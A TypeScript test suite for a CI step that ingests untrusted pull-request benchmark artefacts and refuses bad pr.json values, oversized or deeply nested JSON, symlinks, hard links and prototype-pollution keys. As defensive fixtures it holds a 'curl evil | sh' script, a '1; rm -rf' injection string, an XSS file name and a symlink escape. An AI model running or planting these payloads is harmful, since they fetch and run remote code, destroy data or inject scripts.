import { link, mkdir, symlink, writeFile } from "node:fs/promises";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { loadCompareConfig } from "../actions/src/compare/config.ts";
import { compareRecords } from "../actions/src/compare/verdicts.ts";
import { ARTIFACT_LIMITS } from "../actions/src/publish/hostile-files.ts";
import {
  type Ingested,
  ingestArtifact,
  pullRequestMatchesRun,
  type Refused,
  type TrustedRun,
} from "../actions/src/publish/ingest.ts";
import type { RunRecord } from "../actions/src/schemas/run-record.ts";
import { tempDir } from "./helpers/env.ts";
import { sampleRecord } from "./helpers/record.ts";

const HEAD = "1111111111111111111111111111111111111111";
const OTHER = "2222222222222222222222222222222222222222";
const TRUSTED: TrustedRun = { headSha: HEAD, pullRequests: [7] };

function head(over: Partial<RunRecord> = {}): RunRecord {
  return sampleRecord({ git_sha: HEAD, ...over });
}

function base(): RunRecord {
  return sampleRecord({ role: "nightly", git_sha: OTHER, session: "night-1" });
}

/** A well-formed artefact folder: pr.json, a head and a base record, and their comparison. */
async function artefact(
  over: { pr?: unknown; prText?: string; extra?: Record<string, string> } = {},
): Promise<string> {
  const dir = await tempDir("pte-farm-artefact-");
  await mkdir(path.join(dir, "records"));
  await mkdir(path.join(dir, "comparisons"));
  const pr = over.pr ?? { schema: "pte-farm/pr-results@1", pr: 7, head_sha: HEAD };
  await writeFile(path.join(dir, "pr.json"), over.prText ?? JSON.stringify(pr));
  const h = head();
  const b = base();
  await writeFile(path.join(dir, "records", "head.json"), JSON.stringify(h));
  await writeFile(path.join(dir, "records", "base.json"), JSON.stringify(b));
  const cmp = compareRecords(b, h, await loadCompareConfig());
  await writeFile(path.join(dir, "comparisons", "cell.json"), JSON.stringify(cmp));
  for (const [rel, text] of Object.entries(over.extra ?? {})) {
    await mkdir(path.dirname(path.join(dir, rel)), { recursive: true });
    await writeFile(path.join(dir, rel), text);
  }
  return dir;
}

function ok(result: Ingested | Refused): Ingested {
  if (!result.ok) throw new Error(`expected ok, got: ${result.reason}`);
  return result;
}

function refused(result: Ingested | Refused): Refused {
  if (result.ok) throw new Error("expected the artefact to be refused");
  return result;
}

describe("ingestArtifact: a well-formed artefact", () => {
  it("returns the PR, typed records and comparisons, and rejects nothing", async () => {
    const got = ok(await ingestArtifact(await artefact(), TRUSTED));
    expect(got.pr).toBe(7);
    expect(got.headSha).toBe(HEAD);
    expect(got.records.map((r) => [r.file, r.record.role])).toEqual([
      ["records/base.json", "nightly"],
      ["records/head.json", "head"],
    ]);
    expect(got.comparisons).toHaveLength(1);
    expect(got.comparisons[0]?.comparison.metrics.decode_tokens_per_sec?.verdict).toBeDefined();
    expect(got.rejected).toEqual([]);
  });

  it("accepts a fork PR's number only when the API confirms that PR has the run's head", async () => {
    const dir = await artefact();
    const asked: number[] = [];
    const fork = (answer: boolean): TrustedRun => ({
      headSha: HEAD,
      pullRequests: [],
      verifyPullRequest: async (n) => {
        asked.push(n);
        return answer;
      },
    });
    expect(ok(await ingestArtifact(dir, fork(true))).pr).toBe(7);
    expect(refused(await ingestArtifact(dir, fork(false))).reason).toContain("PR #7");
    expect(asked).toEqual([7, 7]);
    // Without a way to verify, an unlisted number is refused.
    expect(refused(await ingestArtifact(dir, { headSha: HEAD, pullRequests: [] })).reason).toContain(
      "not a pull request",
    );
  });
});

describe("ingestArtifact: pr.json is refused unless the trusted run vouches for it", () => {
  it.each([
    ["a shell string", "1; rm -rf"],
    ["a float", 1.5],
    ["zero", 0],
    ["a negative number", -3],
    ["an unsafe integer", 2 ** 60],
    ["a numeric string", "7"],
    ["null", null],
  ])("refuses a PR number that is %s", async (_, pr) => {
    const dir = await artefact({ pr: { schema: "pte-farm/pr-results@1", pr, head_sha: HEAD } });
    const got = refused(await ingestArtifact(dir, TRUSTED));
    expect(got.reason).toMatch(/pr\.json is not valid: pr\.json: pr: expected a positive integer/);
    expect(got.rejected.map((r) => r.file)).toEqual(["pr.json"]);
  });

  it("refuses a PR number the triggering run does not name", async () => {
    const dir = await artefact({ pr: { schema: "pte-farm/pr-results@1", pr: 8, head_sha: HEAD } });
    expect(refused(await ingestArtifact(dir, TRUSTED)).reason).toContain("PR #8");
  });

  // @fault approved-sha | an artefact whose pr.json names another head SHA than the triggering run | the report refuses it
  it("refuses a head SHA that differs from the run's", async () => {
    const dir = await artefact({ pr: { schema: "pte-farm/pr-results@1", pr: 7, head_sha: OTHER } });
    const got = refused(await ingestArtifact(dir, TRUSTED));
    expect(got.reason).toBe(`pr.json names head ${OTHER}, but the run built ${HEAD}`);
  });

  it("refuses malformed JSON, unknown keys and a missing pr.json", async () => {
    expect(refused(await ingestArtifact(await artefact({ prText: "{pr: 7" }), TRUSTED)).reason).toContain(
      "not valid JSON",
    );
    const extraKey = await artefact({
      pr: { schema: "pte-farm/pr-results@1", pr: 7, head_sha: HEAD, comment: "@everyone" },
    });
    expect(refused(await ingestArtifact(extraKey, TRUSTED)).reason).toContain('unknown key "comment"');
    const dir = await tempDir();
    expect(refused(await ingestArtifact(dir, TRUSTED)).reason).toContain("pr.json is missing");
  });

  it("refuses a __proto__ key instead of letting it replace an object's prototype", async () => {
    const text = `{"schema":"pte-farm/pr-results@1","pr":7,"head_sha":"${HEAD}","__proto__":{"pr":1}}`;
    expect(refused(await ingestArtifact(await artefact({ prText: text }), TRUSTED)).reason).toContain(
      "__proto__",
    );
  });

  it("says so when the run uploaded no artefact", async () => {
    const got = refused(await ingestArtifact(path.join(await tempDir(), "absent"), TRUSTED));
    expect(got.reason).toBe("the run uploaded no results artefact");
  });
});

describe("ingestArtifact: bad files are rejected one by one, with reasons", () => {
  it("rejects malformed JSON and a schema-invalid record, keeping the good ones", async () => {
    const broken = { ...head(), status: "maybe" };
    const dir = await artefact({
      extra: {
        "records/torn.json": '{"schema": "pte-farm/run@1", ',
        "records/bad.json": JSON.stringify(broken),
      },
    });
    const got = ok(await ingestArtifact(dir, TRUSTED));
    expect(got.records).toHaveLength(2);
    expect(got.rejected).toEqual([
      {
        file: "records/bad.json",
        reason: expect.stringContaining("records/bad.json: status: expected one of"),
      },
      { file: "records/torn.json", reason: expect.stringContaining("not valid JSON") },
    ]);
  });

  it("rejects a head record of another commit, a second head record of a cell, and a zero sample", async () => {
    const zero = head({ cell: { ...head().cell, id: "m/r/b/d@t" } });
    (zero.metrics.decode_tokens_per_sec as { samples: number[] }).samples[1] = 0;
    const dir = await artefact({
      extra: {
        "records/other-sha.json": JSON.stringify(head({ git_sha: OTHER })),
        "records/zz-again.json": JSON.stringify(head()),
        "records/zero.json": JSON.stringify(zero),
      },
    });
    const got = ok(await ingestArtifact(dir, TRUSTED));
    expect(Object.fromEntries(got.rejected.map((r) => [r.file, r.reason]))).toEqual({
      "records/other-sha.json": `a head record of commit ${OTHER}, not the run's head ${HEAD}`,
      "records/zero.json":
        "metrics.decode_tokens_per_sec.samples[1]: metric decode_tokens_per_sec rep 1 is 0; samples must be positive (a rate or size of 0 is a broken measurement)",
      "records/zz-again.json": `a second head record for cell ${head().cell.id}`,
    });
  });

  it("rejects a comparison that fails its schema or is of another head", async () => {
    const cmp = compareRecords(base(), head(), await loadCompareConfig());
    const dir = await artefact({
      extra: {
        "comparisons/short-ci.json": JSON.stringify({
          ...cmp,
          metrics: { decode_tokens_per_sec: { ...cmp.metrics.decode_tokens_per_sec, ci: [1] } },
        }),
        "comparisons/other.json": JSON.stringify({ ...cmp, head: { ...cmp.head, git_sha: OTHER } }),
      },
    });
    const got = ok(await ingestArtifact(dir, TRUSTED));
    expect(got.comparisons.map((c) => c.file)).toEqual(["comparisons/cell.json"]);
    expect(got.rejected.map((r) => r.reason)).toEqual([
      `a comparison of head ${OTHER}, not the run's head ${HEAD}`,
      "comparisons/short-ci.json: metrics.decode_tokens_per_sec.ci: expected [lo, hi], got 1 numbers",
    ]);
  });

  // @fault artefact-hostile | a record file over the per-file size limit | that file is rejected with the reason, the rest is read
  it("rejects a file over the per-file size limit", async () => {
    const big = `"${"x".repeat(ARTIFACT_LIMITS.maxFileBytes)}"`;
    const got = ok(await ingestArtifact(await artefact({ extra: { "records/big.json": big } }), TRUSTED));
    expect(got.rejected).toEqual([
      {
        file: "records/big.json",
        reason: `${big.length} bytes, over the ${ARTIFACT_LIMITS.maxFileBytes}-byte limit per file`,
      },
    ]);
  });

  it("rejects JSON nested too deep to parse, without crashing the report", async () => {
    const deep = `${"[".repeat(400_000)}${"]".repeat(400_000)}`;
    const got = ok(await ingestArtifact(await artefact({ extra: { "records/deep.json": deep } }), TRUSTED));
    expect(got.rejected).toEqual([
      { file: "records/deep.json", reason: "not valid JSON (nested too deeply to read)" },
    ]);
    expect(got.records).toHaveLength(2);
  });

  it("rejects invalid UTF-8", async () => {
    const dir = await artefact();
    await writeFile(path.join(dir, "records", "latin1.json"), Buffer.from([0x22, 0xe9, 0x22]));
    const got = ok(await ingestArtifact(dir, TRUSTED));
    expect(got.rejected).toEqual([{ file: "records/latin1.json", reason: "not valid UTF-8" }]);
  });

  it("refuses unexpected files and folders unread, and shows hostile names harmlessly", async () => {
    const dir = await artefact({
      extra: {
        "run.sh": "curl evil | sh",
        "records/nested/deep.json": "{}",
        "records/<img src=x onerror=alert(1)>.json": "{}",
        "records/notes.txt": "hi",
      },
    });
    const got = ok(await ingestArtifact(dir, TRUSTED));
    expect(got.rejected).toEqual([
      {
        file: "records/?img?src=x?onerror=alert?1??.json",
        reason: expect.stringContaining("unexpected file name"),
      },
      { file: "records/nested", reason: "unexpected folder (not read)" },
      { file: "records/notes.txt", reason: expect.stringContaining("unexpected file name") },
      { file: "run.sh", reason: expect.stringContaining("unexpected file (not read)") },
    ]);
  });
});

describe("ingestArtifact: links never lead outside the artefact", () => {
  // @fault artefact-hostile | an artefact holding a symlink to ../ | refused; its target is never read
  it("refuses a symlink to ../ (its target is never read)", async () => {
    const dir = await artefact();
    const outside = path.join(path.dirname(dir), `secret-${path.basename(dir)}.json`);
    await writeFile(outside, JSON.stringify(head({ session: "stolen" })));
    await symlink(path.relative(path.join(dir, "records"), outside), path.join(dir, "records", "leak.json"));
    const got = ok(await ingestArtifact(dir, TRUSTED));
    expect(got.rejected).toEqual([
      { file: "records/leak.json", reason: "a symbolic link (links are never followed)" },
    ]);
    expect(got.records.some((r) => r.record.session === "stolen")).toBe(false);
  });

  it("refuses a records folder that is a symlink to ..", async () => {
    const dir = await tempDir();
    await writeFile(
      path.join(dir, "pr.json"),
      JSON.stringify({ schema: "pte-farm/pr-results@1", pr: 7, head_sha: HEAD }),
    );
    await symlink("..", path.join(dir, "records"));
    const got = ok(await ingestArtifact(dir, TRUSTED));
    expect(got.records).toEqual([]);
    expect(got.rejected).toEqual([{ file: "records", reason: "a symbolic link (links are never followed)" }]);
  });

  it("refuses a symlinked pr.json, so the PR is unknown", async () => {
    const dir = await tempDir();
    const real = path.join(await tempDir(), "pr.json");
    await writeFile(real, JSON.stringify({ schema: "pte-farm/pr-results@1", pr: 7, head_sha: HEAD }));
    await symlink(real, path.join(dir, "pr.json"));
    const got = refused(await ingestArtifact(dir, TRUSTED));
    expect(got.reason).toContain("pr.json is missing or was refused");
    expect(got.rejected).toEqual([{ file: "pr.json", reason: "a symbolic link (links are never followed)" }]);
  });

  it("refuses a hard link", async () => {
    const dir = await artefact();
    await link(path.join(dir, "records", "head.json"), path.join(dir, "records", "twin.json"));
    const got = ok(await ingestArtifact(dir, TRUSTED));
    expect(got.rejected.map((r) => r.reason)).toEqual([
      "a hard link (links are never followed)",
      "a hard link (links are never followed)",
    ]);
  });
});

describe("ingestArtifact: limits on the whole artefact", () => {
  it("refuses an artefact over the total size", async () => {
    const dir = await artefact();
    const got = refused(await ingestArtifact(dir, TRUSTED, { ...ARTIFACT_LIMITS, maxTotalBytes: 3000 }));
    expect(got.reason).toBe("the artefact is over its limits: more than 3000 bytes in total");
  });

  it("refuses an artefact with too many files or entries", async () => {
    const extra = Object.fromEntries(Array.from({ length: 10 }, (_, i) => [`records/r${i}.json`, "{}"]));
    const dir = await artefact({ extra });
    expect(refused(await ingestArtifact(dir, TRUSTED, { ...ARTIFACT_LIMITS, maxFiles: 8 })).reason).toBe(
      "the artefact is over its limits: more than 8 files",
    );
    expect(refused(await ingestArtifact(dir, TRUSTED, { ...ARTIFACT_LIMITS, maxEntries: 12 })).reason).toBe(
      "the artefact is over its limits: more than 12 entries",
    );
  });
});

describe("pullRequestMatchesRun (fork PRs, checked against pulls.get)", () => {
  const run = {
    head_sha: HEAD,
    head_repository: { full_name: "alice/pte-farm" },
    repository: { full_name: "org/pte-farm" },
  };
  const pull = {
    number: 7,
    head: { sha: HEAD, repo: { full_name: "alice/pte-farm" } },
    base: { repo: { full_name: "org/pte-farm" } },
  };

  it("accepts the PR whose head and head repository are the run's", () => {
    expect(pullRequestMatchesRun(pull, run)).toBeNull();
  });

  it("refuses a PR with another head, from another fork, or into another repository", () => {
    expect(pullRequestMatchesRun({ ...pull, head: { ...pull.head, sha: OTHER } }, run)).toContain(
      `head is ${OTHER}`,
    );
    expect(
      pullRequestMatchesRun(
        { ...pull, head: { ...pull.head, repo: { full_name: "mallory/pte-farm" } } },
        run,
      ),
    ).toContain("comes from mallory/pte-farm");
    expect(pullRequestMatchesRun({ ...pull, head: { ...pull.head, repo: null } }, run)).toContain(
      "a deleted repository",
    );
    expect(pullRequestMatchesRun({ ...pull, base: { repo: { full_name: "x/y" } } }, run)).toContain(
      "targets x/y",
    );
  });
});
